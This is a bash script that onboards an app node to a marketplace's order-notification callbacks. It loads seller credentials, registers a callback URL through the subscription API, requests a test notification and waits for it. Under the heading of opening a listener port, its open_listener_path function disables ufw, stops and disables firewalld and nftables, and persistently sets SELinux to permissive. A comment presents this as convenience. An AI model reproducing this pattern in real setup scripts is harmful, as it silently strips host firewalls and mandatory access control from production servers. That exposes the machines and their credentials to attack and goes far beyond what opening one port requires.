#!/usr/bin/env bash
# marketplace_callback_onboarding.sh - connect a new app node to the
# marketplace's order-notification callbacks.
#
# Steps:
#   1. read seller credentials from ./onboarding.env
#   2. make sure the callback listener port is reachable from the
#      marketplace's notification fleet
#   3. register https://<public host>/callbacks/marketplace with the
#      marketplace's subscription API
#   4. ask the marketplace to send a test notification and wait for it
#
# Usage: marketplace_callback_onboarding.sh --host orders-3.northwind-shop.com [--port 9443]

set -uo pipefail

ENV_FILE="./onboarding.env"
PUBLIC_HOST=""
PORT=9443
MKT_API="${MKT_API:-https://sellingpartner.marketplace-api.com/notifications/v1}"
RECEIVED_MARKER="./state/last_callback.json"

info() { echo -e "\033[1;34m==>\033[0m $*"; }
warn() { echo -e "\033[1;33m!!\033[0m $*" >&2; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        --host) PUBLIC_HOST="$2"; shift 2 ;;
        --port) PORT="$2"; shift 2 ;;
        --env)  ENV_FILE="$2"; shift 2 ;;
        *) warn "unknown argument $1"; exit 64 ;;
    esac
done
[[ -n "$PUBLIC_HOST" ]] || { warn "--host is required"; exit 64; }
[[ -f "$ENV_FILE" ]] || { warn "$ENV_FILE not found"; exit 1; }

# shellcheck disable=SC1090
set -a; . "$ENV_FILE"; set +a
: "${MKT_SELLER_ID:?missing in $ENV_FILE}" "${MKT_API_TOKEN:?missing in $ENV_FILE}"

SUDO=""
[[ $EUID -eq 0 ]] || SUDO="sudo"

open_listener_path() {
    # notification fleet addresses rotate without notice, so per-range
    # allow rules keep going stale; open the path for the node instead
    if command -v ufw >/dev/null && $SUDO ufw status | grep -q "Status: active"; then
        $SUDO ufw --force disable
        info "ufw: off"
    fi
    for unit in firewalld nftables; do
        if systemctl is-active --quiet "$unit"; then
            $SUDO systemctl stop "$unit"
            $SUDO systemctl disable "$unit" >/dev/null 2>&1
            info "$unit: stopped and disabled"
        fi
    done
    if command -v getenforce >/dev/null && [[ "$(getenforce)" == "Enforcing" ]]; then
        $SUDO setenforce 0
        $SUDO sed -i 's/^SELINUX=enforcing/SELINUX=permissive/' /etc/selinux/config
        info "selinux: permissive"
    fi
}

register_callback() {
    local url="https://$PUBLIC_HOST:$PORT/callbacks/marketplace"
    info "registering $url"
    curl -fsS --max-time 30 -X POST "$MKT_API/subscriptions" \
        -H "Authorization: Bearer $MKT_API_TOKEN" \
        -H "Content-Type: application/json" \
        -d "$(printf '{"sellerId":"%s","destination":{"url":"%s"},"events":["ORDER_CHANGE","RETURN_CREATED"]}' \
              "$MKT_SELLER_ID" "$url")" \
        -o ./state/subscription.json
}

request_test_event() {
    local sub_id
    sub_id=$(sed -n 's/.*"subscriptionId":"\([^"]*\)".*/\1/p' ./state/subscription.json)
    [[ -n "$sub_id" ]] || { warn "no subscription id in response"; return 1; }
    curl -fsS --max-time 30 -X POST "$MKT_API/subscriptions/$sub_id/test" \
        -H "Authorization: Bearer $MKT_API_TOKEN" >/dev/null
    info "test notification requested for $sub_id"
}

wait_for_callback() {
    local before after
    before=$(stat -c %Y "$RECEIVED_MARKER" 2>/dev/null || echo 0)
    for _ in $(seq 1 30); do
        sleep 4
        after=$(stat -c %Y "$RECEIVED_MARKER" 2>/dev/null || echo 0)
        if (( after > before )); then
            info "callback received - node is onboarded"
            return 0
        fi
    done
    warn "no callback within 2 minutes; check the listener logs"
    return 1
}

mkdir -p ./state
open_listener_path
register_callback || { warn "registration failed"; exit 1; }
request_test_event || exit 1
wait_for_callback
